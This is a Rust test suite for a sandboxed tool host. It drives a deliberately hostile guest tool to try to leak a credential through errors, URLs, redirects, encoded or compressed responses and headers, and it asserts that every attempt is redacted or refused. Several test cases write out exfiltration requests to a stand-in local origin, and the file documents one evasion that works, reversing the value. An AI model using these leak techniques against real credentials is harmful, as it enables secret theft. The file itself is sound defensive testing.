//! A credential under attack: a hostile tool (the `fetcher` guest) and two local servers, the
//! credential's audience and another origin the policy allows that is not in the audience.
//!
//! The tool tries to get the value out every way the issue (#38) names: in its own error, in
//! a request's URL (receipts), through an ordinary trailing-slash redirect that echoes a query
//! credential, through a redirect out of the granted origins, through the audience answering
//! with the value in every encoding (and compressed), and by sending the value it was given, in
//! every encoding, to the other origin. After every call the value is looked for in every
//! string of the record and of the MCP result (`_meta` too), in the journal's files, and in
//! what the tool was handed: the tool reports everything it got to the other origin, reversed
//! (a transform of its own that the host cannot recognise, so what it held arrives there as it
//! held it), and the test reads those reports.

use serde_json::{Value, json};
use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};
use vak_host::secrets::{Scrubber, SecretValue};
use vak_host::{CallRecord, Host, HostBuilder, Policy, Proposal, Status};
use vak_tests::{guest, guests};

#[path = "secrets/support.rs"]
mod support;
use support::*;

/// Case 1: `error.message` kept the value a tool's own error held.
#[tokio::test(flavor = "multi_thread")]
async fn a_tools_own_error_holding_the_value_is_redacted_in_every_field() {
    let s = setup().await;
    let mut records = Vec::new();
    // 1. The tool's own error holds the value (the model gave it to the tool).
    let r = run(
        &s,
        json!({ "url": "", "fail_with": format!("value: {VALUE}") }),
    )
    .await;
    assert_eq!(r.status, Status::ToolError, "{}", r.to_json_pretty());
    // The tool's message is kept once, in `tool_error` (the error names only its code).
    assert!(
        r.tool_error
            .as_ref()
            .unwrap()
            .message
            .contains("[redacted]"),
        "{}",
        r.to_json_pretty()
    );
    assert!(
        r.redacted
            .iter()
            .any(|p| p.starts_with("tool_error.message")),
        "{:?}",
        r.redacted
    );
    assert_clean("tool error", &r);
    records.push(r);

    finish(&s, records).await;
}

/// Case 2: a receipt's `request.url` kept the value.
#[tokio::test(flavor = "multi_thread")]
async fn receipts_keep_no_value_in_their_urls() {
    let s = setup().await;
    let (a, o) = (s.audience.port, s.other.port);
    let mut records = Vec::new();
    // 2. Receipts: the value in a URL to the audience (allowed), and to the other origin
    //    (refused before anything is sent).
    let r = run(
        &s,
        json!({ "url": format!("http://127.0.0.1:{a}/echo?k={VALUE}") }),
    )
    .await;
    assert_eq!(r.status, Status::Completed, "{}", r.to_json_pretty());
    assert!(
        r.receipts[0].request["url"]
            .as_str()
            .unwrap()
            .contains("[redacted]"),
        "{}",
        r.to_json_pretty()
    );
    assert_clean("receipt url to the audience", &r);
    records.push(r);
    let r = run(
        &s,
        json!({ "url": format!("http://localhost:{o}/collect?k={VALUE}") }),
    )
    .await;
    assert_eq!(r.tool_error.as_ref().unwrap().code, "denied");
    assert_clean("receipt url to another origin", &r);
    records.push(r);

    finish(&s, records).await;
}

/// Case 3: `final_url` handed the tool a query credential an ordinary redirect echoed.
#[tokio::test(flavor = "multi_thread")]
async fn a_trailing_slash_redirect_hands_back_no_query_credential() {
    let s = setup().await;
    let (a, o) = (s.audience.port, s.other.port);
    let report = format!("http://localhost:{o}/report");
    let mut records = Vec::new();
    // 3. An ordinary trailing-slash redirect echoing the query credential: the value is sent
    //    once to the audience on each hop, and the tool's final URL does not hold it.
    let r = run(
        &s,
        json!({ "url": format!("http://127.0.0.1:{a}/v1/dir"), "credential": "api",
                "dump": true, "report_to": report }),
    )
    .await;
    assert_eq!(r.status, Status::Completed, "{}", r.to_json_pretty());
    let last = reports(&s.other).pop().unwrap();
    assert!(
        last.starts_with(&format!(
            "status 200\nfinal_url http://127.0.0.1:{a}/v1/dir/\n"
        )),
        "{last}"
    );
    let second = s
        .audience
        .requests()
        .into_iter()
        .rfind(|g| g.head.starts_with("GET /v1/dir/"))
        .unwrap();
    assert_eq!(
        second.head.matches("api_key=").count(),
        1,
        "{}",
        second.head
    );
    assert!(
        second.head.contains(&format!("api_key={VALUE}")),
        "re-injected for the audience"
    );
    assert_eq!(
        r.receipts[0].outcome["redirect_to"],
        format!("http://127.0.0.1:{a}/v1/dir/"),
        "the echoed parameter is not reported"
    );
    assert_clean("trailing-slash redirect", &r);
    records.push(r);

    finish(&s, records).await;
}

/// Case 4: a redirect out of the granted origins quoted the URL, value and all.
#[tokio::test(flavor = "multi_thread")]
async fn a_denied_redirect_names_the_origin_not_the_url() {
    let s = setup().await;
    let (a, o) = (s.audience.port, s.other.port);
    let report = format!("http://localhost:{o}/report");
    let mut records = Vec::new();
    // 4. Redirects out of the granted origins, or out of the audience with the value the server
    //    put in the URL: refused, and the message names the origin, not the URL.
    let before = s.other.requests().len();
    for (path, credential) in [
        ("/to-outside", "api"),
        ("/to-outside-path", "bearer"),
        ("/to-other-path", "bearer"),
    ] {
        let r = run(
            &s,
            json!({ "url": format!("http://127.0.0.1:{a}{path}"), "credential": credential,
                    "dump": true, "report_to": report }),
        )
        .await;
        assert_eq!(
            r.status,
            Status::Completed,
            "{path}: {}",
            r.to_json_pretty()
        );
        let last = reports(&s.other).pop().unwrap();
        assert!(last.starts_with("error denied: "), "{path}: {last}");
        let origin = if path.ends_with("other-path") {
            format!("http://localhost:{o}")
        } else {
            "http://127.0.0.2:1".to_string()
        };
        assert!(
            last.contains(&origin),
            "{path}: the origin is named: {last}"
        );
        assert!(
            !last.contains("/x") && !last.contains("/c/"),
            "{path}: no path: {last}"
        );
        assert_clean(path, &r);
        records.push(r);
    }
    // The redirect to the other origin with the echoed query: followed without the
    // parameter (the value is not the other origin's to get).
    let r = run(
        &s,
        json!({ "url": format!("http://127.0.0.1:{a}/to-other"), "credential": "api",
                "dump": true, "report_to": report }),
    )
    .await;
    assert_eq!(r.status, Status::Completed, "{}", r.to_json_pretty());
    assert_clean("redirect to the other origin", &r);
    records.push(r);
    for g in &s.other.requests()[before..] {
        assert!(
            !holds(&g.head),
            "the other origin got the value: {}",
            g.head
        );
    }

    finish(&s, records).await;
}

/// Case 5, inward: every encoding, compressed bodies, header names and values.
#[tokio::test(flavor = "multi_thread")]
async fn the_audience_answering_with_the_value_in_any_form_hands_the_tool_none_of_it() {
    let s = setup().await;
    let (a, o) = (s.audience.port, s.other.port);
    let report = format!("http://localhost:{o}/report");
    let mut records = Vec::new();
    // 5. The audience answers with the value in every form, in headers (names too), and
    //    compressed: the tool is handed none of it.
    let mut paths: Vec<String> = encoded_forms()
        .iter()
        .map(|(n, _)| format!("/form/{n}"))
        .collect();
    paths.extend(
        [
            "/headers",
            "/echo",
            "/coded/gzip",
            "/coded/deflate",
            "/coded/br",
            "/coded/gzip-br",
        ]
        .map(String::from),
    );
    for path in &paths {
        let r = run(
            &s,
            json!({ "url": format!("http://127.0.0.1:{a}{path}"), "credential": "bearer",
                    "dump": true, "report_to": report }),
        )
        .await;
        assert_eq!(
            r.status,
            Status::Completed,
            "{path}: {}",
            r.to_json_pretty()
        );
        let last = reports(&s.other).pop().unwrap();
        assert!(last.starts_with("status 200"), "{path}: {last}");
        assert!(last.contains("[redacted]"), "{path}: {last}");
        assert!(
            !holds(&last),
            "{path}: the tool was handed the value: {last}"
        );
        if path.starts_with("/coded/") {
            assert!(last.contains("body key=[redacted]"), "decoded: {last}");
            assert!(
                !last.to_ascii_lowercase().contains("content-encoding"),
                "{last}"
            );
        }
        assert_clean(path, &r);
        records.push(r);
    }
    // A coding the host cannot decode, and gzip data served as a file: refused.
    for path in ["/coded/zstd", "/coded/file"] {
        let r = run(
            &s,
            json!({ "url": format!("http://127.0.0.1:{a}{path}"), "credential": "bearer",
                    "dump": true, "report_to": report }),
        )
        .await;
        let last = reports(&s.other).pop().unwrap();
        assert!(last.starts_with("error denied: "), "{path}: {last}");
        assert_clean(path, &r);
        records.push(r);
    }

    finish(&s, records).await;
}

/// Case 5, outward: every encoding, in the URL, headers (names too) and bodies (coded too);
/// and the stated limit: a transform the tool computes itself is not recognised.
#[tokio::test(flavor = "multi_thread")]
async fn the_value_in_any_form_does_not_leave_for_another_origin() {
    let s = setup().await;
    let o = s.other.port;
    let mut records = Vec::new();
    // 6. The tool sends the value it was given, in every form, to the other origin: in the
    //    URL, a header value, a header name, the body (plain, and gzip or br declared).
    let before = s.other.requests().len();
    let mut attempts: Vec<Value> = Vec::new();
    for (name, form) in encoded_forms() {
        let q: String = url_safe(&form);
        attempts.push(json!({ "url": format!("http://localhost:{o}/c?{name}={q}") }));
        attempts.push(
            json!({ "url": format!("http://localhost:{o}/c"), "method": "POST",
                              "body": format!("leak {form}") }),
        );
        if !form.contains(['\r', '\n']) {
            attempts.push(json!({ "url": format!("http://localhost:{o}/c"),
                                  "headers": [["X-Data", form]] }));
        }
    }
    attempts.push(json!({ "url": format!("http://localhost:{o}/c"), "headers": [[format!("x-{VALUE}"), "1"]] }));
    for (coding, body) in [
        ("gzip", gzip(VALUE.as_bytes())),
        ("br", brotli(VALUE.as_bytes())),
        ("deflate", zlib(VALUE.as_bytes())),
    ] {
        use base64::engine::general_purpose::STANDARD;
        attempts.push(
            json!({ "url": format!("http://localhost:{o}/c"), "method": "POST",
                              "headers": [["Content-Encoding", coding]],
                              "body_base64": b64(&STANDARD, &body) }),
        );
    }
    attempts.push(
        json!({ "url": format!("http://localhost:{o}/c"), "method": "POST",
                          "headers": [["Content-Encoding", "zstd"]], "body": "whatever" }),
    );
    for args in attempts {
        let r = run(&s, args.clone()).await;
        assert_eq!(
            r.tool_error.as_ref().map(|e| e.code.as_str()),
            Some("denied"),
            "{args}: {}",
            r.to_json_pretty()
        );
        assert_clean(&args.to_string(), &r);
        records.push(r);
    }
    assert_eq!(
        s.other.requests().len(),
        before,
        "nothing reached the other origin"
    );

    // Not recognised, as documented: a transform the tool computes itself (here, reversed).
    let reversed: String = VALUE.chars().rev().collect();
    let r = run(
        &s,
        json!({ "url": format!("http://localhost:{o}/c"), "method": "POST", "body": reversed }),
    )
    .await;
    assert_eq!(r.status, Status::Completed, "{}", r.to_json_pretty());
    assert_eq!(s.other.requests().len(), before + 1);

    finish(&s, records).await;
}

/// After a test's calls: everything the tool reported having been handed holds no value, and
/// the journal has every record, none holding the value, in its database or its log.
async fn finish(s: &Setup, records: Vec<CallRecord>) {
    for line in reports(&s.other) {
        assert!(!holds(&line), "the tool was handed the value: {line}");
    }
    let dir = s.journal.path().to_path_buf();
    let db = rusqlite::Connection::open(dir.join("journal.sqlite")).unwrap();
    // Every entry (the calls' `started` entries too) is searched; the records are counted.
    let mut rows: Vec<(String, String)> = Vec::new();
    for _ in 0..100 {
        let mut q = db.prepare("SELECT kind, record FROM records").unwrap();
        rows = q
            .query_map([], |row| {
                Ok((row.get::<_, String>(0)?, row.get::<_, String>(1)?))
            })
            .unwrap()
            .map(Result::unwrap)
            .collect();
        if rows.iter().filter(|(k, _)| k == "record").count() >= records.len() {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert_eq!(
        rows.iter().filter(|(k, _)| k == "record").count(),
        records.len(),
        "every call journaled"
    );
    let rows = rows.into_iter().map(|(_, r)| r);
    for row in rows {
        let row: Value = serde_json::from_str(&row).unwrap();
        let mut all = Vec::new();
        strings(&row, "journal row", &mut all);
        for (path, text) in all {
            assert!(!holds(&text), "{path}: {text}");
        }
    }
    // Every file of the state directory, the chains' logs in their folder too.
    let mut folders = vec![dir];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(&folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
                continue;
            }
            let bytes = std::fs::read(&path).unwrap();
            assert!(
                !bytes.windows(VALUE.len()).any(|w| w == VALUE.as_bytes()),
                "{} holds the value",
                path.display()
            );
        }
    }
}

/// `form` made safe for a query (reserved characters escaped, the rest as it is).
fn url_safe(form: &str) -> String {
    form.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' | b'%' => {
                (b as char).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect()
}

/// `vak call` of the trailing-slash redirect and of a tool error, with the value in a secrets
/// file: neither its output nor `vak audit show` holds the value.
#[tokio::test(flavor = "multi_thread")]
async fn vak_call_and_audit_show_print_no_value() {
    let s = setup().await;
    let a = s.audience.port;
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("tools")).unwrap();
    std::fs::write(
        dir.path().join("tools/fetcher.wasm"),
        guest(guests::FETCHER),
    )
    .unwrap();
    std::fs::write(dir.path().join("policy.toml"), &s.policy).unwrap();
    let secrets = dir.path().join("secrets");
    std::fs::create_dir(&secrets).unwrap();
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&secrets, std::fs::Permissions::from_mode(0o700)).unwrap();
        let file = secrets.join("secrets.json");
        std::fs::write(&file, json!({ "api_key": VALUE }).to_string()).unwrap();
        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
    }
    let vak = |args: &[&str]| {
        let out = vak_tests::vak_in(dir.path())
            .env("VAK_SECRETS_FILE", secrets.join("secrets.json"))
            .env_remove("RUST_LOG")
            .args(args)
            .output()
            .unwrap();
        (
            String::from_utf8_lossy(&out.stdout).to_string(),
            String::from_utf8_lossy(&out.stderr).to_string(),
        )
    };
    let dir_args = json!({ "url": format!("http://127.0.0.1:{a}/v1/dir"), "credential": "api",
                           "dump": true })
    .to_string();
    let error_args = json!({ "url": "", "fail_with": format!("value: {VALUE}") }).to_string();
    for args in [&dir_args, &error_args] {
        for json_flag in [false, true] {
            let mut argv = vec!["call", "fetcher", args.as_str()];
            if json_flag {
                argv.push("--json");
            }
            let (out, err) = vak(&argv);
            assert!(!out.is_empty(), "{err}");
            assert!(
                !holds(&out) && !holds(&err),
                "vak call printed the value: {out}\n{err}"
            );
            if json_flag {
                let record: Value = serde_json::from_str(&out).unwrap();
                let id = record["call_id"].as_str().unwrap().to_string();
                let (shown, err) = vak(&["audit", "show", &id]);
                assert!(shown.contains(&id), "{shown}\n{err}");
                assert!(!holds(&shown) && !holds(&err), "vak audit show: {shown}");
            }
        }
    }
    // The redirect's document really is the listing at the final URL, without the parameter.
    let (out, _) = vak(&["call", "fetcher", &dir_args]);
    assert!(
        out.contains(&format!("final_url http://127.0.0.1:{a}/v1/dir/")),
        "{out}"
    );
}

/// The figure docs/secrets.md quotes: a call whose grant binds a 2.6 MB value, fetching the other
/// origin (the old broker rebuilt its leak scrubber at every such hop). A measurement, not a
/// check: `cargo test -p vak-tests --test secrets -- --ignored --nocapture cost`.
#[tokio::test(flavor = "multi_thread")]
#[ignore = "a measurement, not a check"]
async fn cost_of_a_large_credential_per_call() {
    let mut x: u64 = 0x9e3779b97f4a7c15;
    let value: String = (0..2_600_000)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            char::from(b'!' + (x % 94) as u8)
        })
        .collect();
    let value: &'static str = Box::leak(value.into_boxed_str());
    let other = serve(|_, _| ("200 OK", vec![], b"ok".to_vec()));
    let o = other.port;
    let policy = format!(
        r#"
[tools.fetcher.capabilities.http]
origins = ["http://localhost:{o}", "http://127.0.0.1:9"]
allow_addresses = ["127.0.0.1", "::1"]
[tools.fetcher.capabilities.http.credentials.big]
secret = "big"
audience = ["http://127.0.0.1:9"]
"#
    );
    let cache = tempfile::tempdir().unwrap();
    let host = HostBuilder::new()
        .policy(Policy::parse(&policy, "test").unwrap())
        .cache_dir(Some(cache.path().to_path_buf()))
        .secrets(Arc::new(vak_tests::OneSecret { name: "big", value }))
        .component("fetcher", guest(guests::FETCHER))
        .build()
        .await
        .unwrap();
    let args = json!({ "url": format!("http://localhost:{o}/x") }).to_string();
    for round in 0..3 {
        let t = std::time::Instant::now();
        let r = host.call(Proposal::new("fetcher", args.clone())).await;
        assert_eq!(r.status, Status::Completed, "{:?}", r.error);
        eprintln!(
            "call {round}: {:?} (one hop to a non-audience origin)",
            t.elapsed()
        );
    }
}
